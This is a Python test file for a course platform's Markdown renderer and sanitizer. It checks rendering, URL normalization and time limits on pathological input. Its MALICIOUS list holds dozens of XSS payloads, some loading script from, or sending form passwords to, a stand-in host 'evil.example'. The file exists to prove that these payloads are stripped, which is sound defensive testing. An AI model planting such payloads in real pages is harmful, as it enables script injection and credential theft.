"""Markdown of courses: rendering, and the removal of everything executable."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from domain.courses import markdown


class Page(HTMLParser):
    """The tags and attributes that a browser finds."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("**Kopi** _gayo_ ~~lama~~", "<p><strong>Kopi</strong> <em>gayo</em> <s>lama</s></p>"),
        ("# Judul\n\n1. satu\n2. dua", "<h1>Judul</h1>\n<ol>\n<li>satu</li>\n<li>dua</li>\n</ol>"),
        ("> kata\n\n---\n`x < y`", "<blockquote>\n<p>kata</p>\n</blockquote>\n<hr>\n<p><code>x &lt; y</code></p>"),
        ("```py\n1 < 2\n```", '<pre><code class="language-py">1 &lt; 2\n</code></pre>'),
        (
            "[harga](https://example.com/?a=1&b=2)",
            '<p><a href="https://example.com/?a=1&amp;b=2" rel="noopener nofollow">harga</a></p>',
        ),
        ("<mailto:a@b.id>", '<p><a href="mailto:a@b.id" rel="noopener nofollow">mailto:a@b.id</a></p>'),
        (
            "![peta](https://example.com/p.png)",
            '<p><img src="https://example.com/p.png" alt="peta" referrerpolicy="no-referrer"></p>',
        ),
        (
            "| a | b |\n|---|---|\n| 1 | 2 |",
            "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n"
            "</tr>\n</tbody>\n</table>",
        ),
        (
            "|a|b|c|d|\n|:-|:-:|-:|-|\n|1|2|3|4|",
            '<table>\n<thead>\n<tr>\n<th align="left">a</th>\n<th align="center">b</th>\n<th align="right">c</th>\n'
            '<th>d</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align="left">1</td>\n<td align="center">2</td>\n'
            '<td align="right">3</td>\n<td>4</td>\n</tr>\n</tbody>\n</table>',
        ),
        (
            '[Harga][pasar], [pasar] dan ![peta][]\n\n[pasar]: https://example.com/a "Pasar"\n'
            "[PETA]: https://example.com/p.png",
            '<p><a href="https://example.com/a" title="Pasar" rel="noopener nofollow">Harga</a>, '
            '<a href="https://example.com/a" title="Pasar" rel="noopener nofollow">pasar</a> dan '
            '<img src="https://example.com/p.png" alt="peta" referrerpolicy="no-referrer"></p>',
        ),
    ],
)
def test_markdown_is_rendered_as_html(source: str, html: str) -> None:
    assert markdown.render(source).strip() == html


MALICIOUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import url(//evil.example)</style><b style='background:url(javascript:alert(1))'>x</b>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    "[x](//evil.example)",
    "[x](/api/auth/logout)",
    "[x](https://a.example/\" onmouseover=\"alert(1))",
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    "![x\" onerror=\"alert(1)](https://a.example/x.png)",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: //evil.example '\"><script>alert(1)</script>'\n\n[x] ![x]",
    "[x]: https://a.example '\" onmouseover=\"alert(1)'\n\n[x] ![x]",
    "|a|\n|:-:|\n|<td style=x align=evil>|",
    "```\" onmouseover=\"alert(1)\nx\n```",
    "```<script>\nalert(1)\n```",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><base href=//evil.example>",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "> - # <script>alert(1)</script>",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "*<b onclick=alert(1)>*",
]  # fmt: skip


@pytest.mark.parametrize("source", MALICIOUS)
def test_rendered_html_contains_nothing_executable(source: str) -> None:
    page = Page(markdown.render(source))
    assert set(page.tags) <= markdown.TAGS
    for tag, name, value in page.attributes:
        if (tag, name) in (("a", "href"), ("img", "src")):
            assert re.match("(https?|mailto):", value), value
        else:
            assert name in ("rel", "title", "alt", "start", "class", "referrerpolicy", "align"), name
    for tag, name, value in page.attributes:
        if (tag, name) == ("a", "rel"):
            assert set(value.split()) == {"noopener", "nofollow"}


def test_the_sanitizer_alone_removes_everything_executable(monkeypatch: pytest.MonkeyPatch) -> None:
    lax = MarkdownIt("commonmark", {"html": True}).enable("table")
    monkeypatch.setattr(lax, "validateLink", lambda url: True)
    monkeypatch.setattr(markdown, "_markdown", lax)
    for source in MALICIOUS:
        test_rendered_html_contains_nothing_executable(source)


@pytest.mark.parametrize(
    "source",
    [
        "[a]: http://a\n" * 14_000,
        "[" * 5_000,
        "![" * 5_000,
        "*a **b " * 3_000,
        "> " * 20_000,
        "|a" * 3_000 + "\n" + "|-" * 3_000 + "\n|a" * 999,
        ("|a" * 200 + "\n" + "|-" * 200 + "\n" + "a\n" * 100 + "\n") * 100,
        "[a]: b 'x\n" + "[a]: b\n" * 25_000,
        "[a]: http://a\n\n" + "[" * 50 + "a " * 90_000 + "]" * 50,
    ],
    ids=lambda text: text[:4],
)
def test_pathological_texts_are_fast_and_short(source: str) -> None:
    started = time.thread_time()
    try:
        markup = markdown.render(source)
    except markdown.TooComplex:
        markup = ""
    assert time.thread_time() - started < 10
    assert len(markup) < 2_000_000


def test_a_table_is_bounded_by_its_cells() -> None:
    head, row = "|a|b|c|d|e|\n|-|-|-|-|-|\n", "|1|2|3|4|5|\n"
    assert markdown.render(head + row * 2_000).count("<td>") == 10_000
    for rows in (row * 4_000, "1\n" * 4_000):
        with pytest.raises(markdown.TooComplex):
            markdown.render(head + rows)


@pytest.mark.parametrize("use", ["[a] ", "![a] ", "[x][a] "])
def test_link_references_are_not_repeated_without_limit(use: str) -> None:
    link = f"[a]: https://example.com/{'x' * 2000}\n\n"
    assert markdown.render(link + use * 200).count('xxx"') == 200
    with pytest.raises(markdown.TooComplex):
        markdown.render(link + use * 10_000)


@pytest.mark.parametrize("source", ["", " \n\t", "---", "-", "&nbsp;", "#", "> ", "![]()", "***"])
def test_a_text_without_words_has_no_visible_content(source: str) -> None:
    assert not markdown.has_visible_content(markdown.render(source))


@pytest.mark.parametrize("source", ["kopi", "7", "`x`", "![](https://example.com/x.png)", "咖啡", "# A"])
def test_a_word_or_an_image_is_visible_content(source: str) -> None:
    assert markdown.has_visible_content(markdown.render(source))


@pytest.mark.parametrize(
    ("text", "link"),
    [
        ("https://youtu.be/x?t=1", "https://youtu.be/x?t=1"),
        (" HTTPS://Example.COM/a b ", "https://example.com/a%20b"),
        ("http://kopi.id:8080", "http://kopi.id:8080/"),
        ("javascript:alert(1)", None),
        ("data:text/html,x", None),
        ("ftp://example.com/x", None),
        ("//example.com/x", None),
        ("example.com/x", None),
        ("https://", None),
        ("https://user:secret@example.com/", None),
        ("https://example.com/" + "x" * 2048, None),
        ("", None),
    ],
)
def test_video_urls_are_normalized_http_urls(text: str, link: str | None) -> None:
    assert markdown.normalize_url(text) == link
